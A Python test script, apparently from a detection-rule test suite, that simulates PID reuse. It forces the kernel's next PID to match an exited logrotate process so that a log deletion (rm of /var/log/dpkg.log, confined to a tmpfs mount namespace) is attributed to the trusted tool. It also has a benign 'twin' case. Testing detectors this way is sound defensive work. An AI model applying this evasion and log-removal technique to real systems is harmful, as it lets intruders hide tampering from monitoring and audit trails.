#!/usr/bin/python3
# A process gets the pid of one whose deeds are forgiven: whoever knows processes by pid alone forgives it too.
#: title: Pid reused
#: technique: T1036
#: needs: exec
#: rules: log_removed_by_tool
#: twin: a child of logrotate removes a log
import os
import subprocess

from lib import call, cannot, did, main

LAST = "/proc/sys/kernel/ns_last_pid"
LOG = "/var/log/dpkg.log"
# Beside the machine's own log there is one of that name in a mount namespace of the driver.
INSIDE = "mount -t tmpfs tmpfs /var/log; : > /var/log/dpkg.log; "


CLONE_NEWNS = 0x20000
LOGROTATE = "/usr/local/sbin/logrotate"


def stand_in():
    """What is forgiven is forgiven where the system has its programs: in a mount namespace of the driver's own."""
    call("unshare", CLONE_NEWNS)
    subprocess.run(["mount", "--make-rprivate", "/"], check=True)
    tools = os.environ["TOOLS"]
    for source, place in ((tools + "/system", os.path.dirname(LOGROTATE)), (tools + "/spawn", LOGROTATE)):
        subprocess.run(["mount", "--bind", source, place], check=True)


def attack():
    if not os.path.exists(LAST):
        cannot("this kernel doesn't let anybody choose pids")
    stand_in()
    for _ in range(200):
        forgiven = subprocess.Popen([LOGROTATE, "true"])
        forgiven.wait()
        with open(LAST, "w") as file:
            file.write(str(forgiven.pid - 1))
        # No logrotate any more; its child is an orphan's sibling of the same number.
        child = os.fork()
        if child == 0:
            if os.getpid() != forgiven.pid:
                os._exit(1)
            os._exit(subprocess.call(["unshare", "--mount", "sh", "-c", INSIDE + f"rm -f {LOG}; true"]))
        if os.waitpid(child, 0)[1] == 0:
            return did(f"pid {forgiven.pid}", LOG)
    raise SystemExit("the pid was always somebody else's")


def twin():
    stand_in()
    command = [LOGROTATE, "unshare", "--mount", "sh", "-c", INSIDE + f"rm -f {LOG}; true"]
    subprocess.run(command, check=True)
    did(LOG)


main(attack, twin)
